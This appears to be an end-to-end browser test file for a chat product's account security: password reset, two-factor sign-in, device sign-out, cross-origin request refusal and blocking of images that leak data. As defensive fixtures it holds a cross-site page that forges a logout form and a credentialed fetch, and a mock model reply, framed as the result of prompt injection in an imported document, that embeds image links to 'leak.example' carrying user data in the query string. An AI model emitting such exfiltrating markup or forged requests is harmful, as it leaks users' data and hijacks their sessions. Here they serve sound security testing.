import http from "node:http";
import type { AddressInfo } from "node:net";
import type { Locator, Page } from "playwright-core";
import { afterAll, describe, expect, it } from "vitest";
import { startFakeAiServer } from "../server/test/fake-ai-server";
import { linkIn, startTestSmtpServer } from "../server/test/test-smtp-server";
import { totpCode } from "../server/test/totp";
import type { ConversationShare, ConversationSummary } from "../shared/chat";
import { DESKTOP, PHONE, screenshot, setupBrowser } from "./support/browser";
import { askInPage, chatOwnerPage, conversationList, openChat } from "./support/chat-owner";
import { expectToast } from "./support/toasts";

const smtp = await startTestSmtpServer();
const fake = await startFakeAiServer();
const browser = setupBrowser({ env: { SMTP_URL: smtp.url } });
afterAll(() => Promise.all([smtp.close(), fake.close()]));

const PASSWORD = "correct-horse-battery";
let owners = 0;

/** A new owner signed in through the API in this page's browser context. */
async function signedInOwner(page: Page) {
  owners += 1;
  const email = `security${owners}@example.com`;
  const response = await page.request.post("/api/auth/sign-up", {
    data: { name: "Dana Owner", email, password: PASSWORD, confirmPassword: PASSWORD },
    headers: { origin: browser.url },
  });
  expect(response.status()).toBe(201);
  return email;
}

async function logIn(page: Page, email: string, password: string) {
  await page.goto("/login");
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Login", exact: true }).click();
}

/** Another site on this machine, on a port of its own: it counts every request that reaches it. */
async function startElsewhere() {
  const requests: string[] = [];
  const server = http.createServer((request, response) => {
    requests.push(request.url ?? "");
    response.setHeader("content-type", "image/gif");
    response.end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * An https:// site (what an attacker would use, and what the policy allowed images from) that the page's browser
 * reaches on the counting server, through Playwright's routing rather than the internet.
 */
const HTTPS_ELSEWHERE = "https://leak.example";
async function routeHttpsElsewhere(page: Page, elsewhere: { url: string }) {
  await page.context().route(`${HTTPS_ELSEWHERE}/**`, async (route) => {
    const url = route.request().url().replace(HTTPS_ELSEWHERE, elsewhere.url);
    await route.fulfill({ response: await route.fetch({ url }) });
  });
}

/** An answer that asked for images shows their addresses, loads none, and says where its link leads. */
async function expectNothingLoaded(answer: Locator, addresses: { images: string[]; link: string; host: string }) {
  for (const address of addresses.images) await answer.getByRole("link", { name: address, exact: true }).waitFor();
  expect(await answer.locator("img").count()).toBe(0);
  const link = answer.getByRole("link", { name: "the pricing guide" });
  expect(await link.getAttribute("href")).toBe(addresses.link);
  expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  await answer.getByText(`(${addresses.host})`, { exact: true }).waitFor();
  // Raw HTML stays text.
  await answer.getByText('<img src="', { exact: false }).waitFor();
}

describe("account recovery and security in the browser", () => {
  it("resets a forgotten password through the emailed link, and the link works once", async () => {
    const setup = await browser.newPage();
    const email = await signedInOwner(setup);
    const page = await browser.newPage(PHONE);
    /** The page as it is now, on a phone and on a desktop screen. */
    const bothScreens = async (name: string) => {
      await screenshot(page, `${name}-375`);
      await page.setViewportSize(DESKTOP);
      await screenshot(page, `${name}-1280`);
      await page.setViewportSize(PHONE);
    };

    await page.goto("/login");
    await page.getByRole("link", { name: "Forgot password?" }).waitFor();
    await bothScreens("login-with-forgot-password");
    await page.getByRole("link", { name: "Forgot password?" }).click();
    await page.getByRole("heading", { name: "Reset your password" }).waitFor();
    await bothScreens("forgot-password");
    // A wrong address is refused by the form itself.
    await page.getByLabel("Email").fill("not-an-email");
    await page.getByRole("button", { name: "Send reset link" }).click();
    await page.getByText("Please enter a valid email address.").waitFor();
    await page.getByLabel("Email").fill(email);
    await page.getByRole("button", { name: "Send reset link" }).click();
    await page.getByRole("heading", { name: "Check your email" }).waitFor();
    await page.getByText(`If there is a Directors account for ${email}`).waitFor();
    await bothScreens("forgot-password-sent");

    const link = linkIn(await smtp.nextMessageTo(email));
    await page.goto(link.toString());
    await page.getByRole("heading", { name: "Choose a new password" }).waitFor();
    await bothScreens("reset-password");
    await page.getByLabel("New password", { exact: true }).fill("a-new-password-1");
    await page.getByLabel("Confirm new password").fill("something-else");
    await page.getByRole("button", { name: "Save new password" }).click();
    await page.getByText("Passwords don't match").waitFor();
    await page.getByLabel("Confirm new password").fill("a-new-password-1");
    await page.getByRole("button", { name: "Save new password" }).click();
    await page.waitForURL("**/login");
    await expectToast(page, "Password changed", "Log in with your new password.");

    // The first device's session ended with the reset.
    expect((await setup.request.get("/api/account")).status()).toBe(401);

    // The same link again says so and offers a new one.
    await page.goto(link.toString());
    await page.getByLabel("New password", { exact: true }).fill("third-password-1");
    await page.getByLabel("Confirm new password").fill("third-password-1");
    await page.getByRole("button", { name: "Save new password" }).click();
    await page.getByRole("heading", { name: "This link does not work" }).waitFor();
    await page.getByText("This link has expired or has already been used.").waitFor();
    await bothScreens("reset-password-used");
    await page.getByRole("link", { name: "Send a new link" }).waitFor();

    await logIn(page, email, "a-new-password-1");
    await page.waitForURL("**/subscription");
  });

  it("turns on two-factor sign-in in Settings, then asks for a code (or a backup code) at login", async () => {
    const page = await browser.newPage(DESKTOP);
    const email = await signedInOwner(page);
    await page.goto("/settings#security");
    const section = page.locator("#security");
    await section.getByRole("button", { name: "Turn on" }).click();
    await page.getByLabel("Your password").fill("not-my-password");
    await page.getByRole("button", { name: "Continue" }).click();
    await page.getByText("Your password is incorrect.").waitFor();
    await page.getByLabel("Your password").fill(PASSWORD);
    await page.getByRole("button", { name: "Continue" }).click();

    await section.getByRole("img", { name: "QR code to scan with your authenticator app" }).waitFor();
    const secret = (await section.locator("code").textContent())?.replaceAll(" ", "") ?? "";
    expect(secret).toMatch(/^[A-Z2-7]{16,}$/);
    await screenshot(page, "two-factor-setup-1280");
    await section.getByLabel("Code from the app").fill("000000");
    await section.getByRole("button", { name: "Turn on" }).click();
    await section.getByText(/That code didn't work/).waitFor();
    await section.getByLabel("Code from the app").fill(totpCode(secret));
    await section.getByRole("button", { name: "Turn on" }).click();
    await expectToast(page, "Two-factor sign-in is on", "Logging in now asks for a code from your app.");
    const codes = section.getByRole("list", { name: "Backup codes" }).getByRole("listitem");
    await codes.first().waitFor();
    expect(await codes.count()).toBe(10);
    const backup = (await codes.first().textContent()) ?? "";
    await screenshot(page, "two-factor-backup-codes-1280");
    await section.getByRole("button", { name: "I have saved them" }).click();
    await section.getByText("On", { exact: true }).waitFor();

    // Logging in on a phone asks for the code.
    const phone = await browser.newPage(PHONE);
    await logIn(phone, email, PASSWORD);
    await phone.getByRole("heading", { name: "Two-step verification" }).waitFor();
    await screenshot(phone, "two-factor-login-375");
    await phone.getByLabel("Authentication code").fill("000000");
    await phone.getByRole("button", { name: "Verify" }).click();
    await phone.getByText(/That code didn't work/).waitFor();
    await phone.getByLabel("Authentication code").fill(totpCode(secret));
    await phone.getByRole("button", { name: "Verify" }).click();
    await phone.waitForURL("**/subscription");
    await expectToast(phone, "Welcome back!", "You've successfully logged in.");

    // Another browser: a backup code instead.
    const other = await browser.newPage(DESKTOP);
    await logIn(other, email, PASSWORD);
    await other.getByRole("button", { name: "Use a backup code instead" }).click();
    await other.getByLabel("Backup code").fill(backup);
    await other.getByRole("button", { name: "Verify" }).click();
    await other.waitForURL("**/subscription");

    // Settings lists the three devices; signing the phone out ends its session.
    await page.reload();
    const devices = section.getByRole("listitem").filter({ has: page.getByRole("button", { name: /^Sign out/ }) });
    await expect.poll(() => devices.count()).toBe(3);
    await section.getByText("This device").waitFor();
    await screenshot(page, "security-devices-1280");
    await section
      .getByRole("button", { name: /^Sign out (?!.*this device)/ })
      .first()
      .click();
    await expectToast(page, "Device signed out", "Chrome on Linux has been signed out.");
    await expect.poll(() => devices.count()).toBe(2);
    const stillIn = await Promise.all([phone, other].map(async (p) => (await p.request.get("/api/account")).status()));
    expect(stillIn.sort()).toEqual([200, 401]);
  });

  it("refuses a form posted from another port of the same host, and a cross-origin fetch", async () => {
    const page = await browser.newPage(PHONE);
    await signedInOwner(page);
    // Chromium reports the refused cross-origin fetch on the console.
    browser.expectConsoleError(/CORS|Failed to load resource|ERR_FAILED/);
    const target = browser.url;
    const evil = http.createServer((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<!doctype html>
        <form id="f" method="post" action="${target}/api/auth/logout"><button>Win a prize</button></form>
        <script>
          window.fetchResult = fetch("${target}/api/account/sign-out-everywhere", {
            method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: "{}"
          }).then((r) => "answered " + r.status, () => "blocked");
        </script>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = evil.address() as AddressInfo;
      await page.goto(`http://127.0.0.1:${port}/`);
      expect(await page.evaluate(() => (window as unknown as { fetchResult: Promise<string> }).fetchResult)).toBe(
        "blocked",
      );
      const [posted] = await Promise.all([
        page.waitForResponse((response) => response.url().endsWith("/api/auth/logout")),
        page.getByRole("button", { name: "Win a prize" }).click(),
      ]);
      expect(posted.status()).toBe(403);
      // The owner is still signed in.
      expect((await page.request.get(`${target}/api/account`)).status()).toBe(200);
    } finally {
      await new Promise<void>((resolve) => evil.close(() => resolve()));
    }
  });

  it("never lets an answer load anything from another site, in the chat or on its shared link", async () => {
    await browser.restart({
      env: { AI_BASE_URL: fake.url, AI_API_KEY: "sk-e2e-security", CHAT_MODEL: "e2e-chat", EMBEDDING_MODEL: "none" },
    });
    const elsewhere = await startElsewhere();
    try {
      // What a model following instructions hidden in an imported document would write.
      const images = [`${HTTPS_ELSEWHERE}/pixel.gif?data=margin-42`, `${elsewhere.url}/chart.gif?data=margin-42`];
      const addresses = { images, link: `${elsewhere.url}/guide`, host: new URL(elsewhere.url).host };
      fake.queueChat({
        reply: `Your margins are healthy.\n\n![margin chart](${images[0]})\n\n![](${images[1]})\n\nSee [the pricing guide](${addresses.link}) or <img src="${images[1]}&raw=1">.\n\n[![logo](${images[0]}&logo=1)](${HTTPS_ELSEWHERE}/home)`,
      });
      const page = await chatOwnerPage(browser, DESKTOP);
      await routeHttpsElsewhere(page, elsewhere);
      await openChat(page, "/chat?director=martha");
      await askInPage(page, "Are my margins healthy?");
      await conversationList(page).getByText("Your margins are healthy.").waitFor();
      await expectNothingLoaded(conversationList(page), addresses);
      await screenshot(page, "answer-image-as-address-1280");

      // The same answer on its shared link, signed out.
      const [conversation] = (
        (await (await page.request.get("/api/conversations")).json()) as {
          conversations: ConversationSummary[];
        }
      ).conversations;
      const share = await page.request.post(`/api/conversations/${conversation?.id}/share`, {
        data: {},
        headers: { origin: browser.url },
      });
      const { token } = (await share.json()) as ConversationShare;
      const visitor = await browser.newPage(PHONE);
      await routeHttpsElsewhere(visitor, elsewhere);
      await visitor.goto(`/shared/${token}`);
      await visitor.getByText("Your margins are healthy.").waitFor();
      await expectNothingLoaded(visitor.locator("main"), addresses);

      expect(elsewhere.requests).toEqual([]);
    } finally {
      await elsewhere.close();
    }
  });

  it("asks a new owner to confirm their email, with Resend, when the server requires it", async () => {
    await browser.restart({ env: { SMTP_URL: smtp.url, REQUIRE_EMAIL_VERIFICATION: "true" } });
    const page = await browser.newPage(PHONE);
    const email = await signedInOwner(page);
    const first = await smtp.nextMessageTo(email);
    await page.goto("/subscription");
    const banner = page.getByRole("region", { name: "Confirm your email address" });
    await banner.getByText("Please confirm your email address.").waitFor();
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    await screenshot(page, "email-confirmation-banner-375");
    await page.setViewportSize(DESKTOP);
    await screenshot(page, "email-confirmation-banner-1280");
    await page.setViewportSize(PHONE);
    await banner.getByRole("button", { name: "Resend" }).click();
    await expectToast(page, "Email sent", `We sent a new confirmation link to ${email}.`);
    await smtp.nextMessageTo(email);

    await page.goto(linkIn(first).toString());
    await page.getByRole("heading", { name: "Email confirmed" }).waitFor();
    await page.getByRole("link", { name: "Continue" }).click();
    await page.waitForURL("**/subscription");
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    expect(await banner.count()).toBe(0);
  });

  it("on a server without email, tells an owner who forgot the password whom to ask", async () => {
    await browser.restart({});
    const page = await browser.newPage(PHONE);
    await page.goto("/login");
    await page.getByRole("link", { name: "Forgot password?" }).click();
    await page
      .getByText("Please ask the person who runs Directors for your organisation to reset your password.")
      .waitFor();
    expect(await page.getByRole("button", { name: "Send reset link" }).count()).toBe(0);
    await screenshot(page, "forgot-password-no-email-375");
  });
});
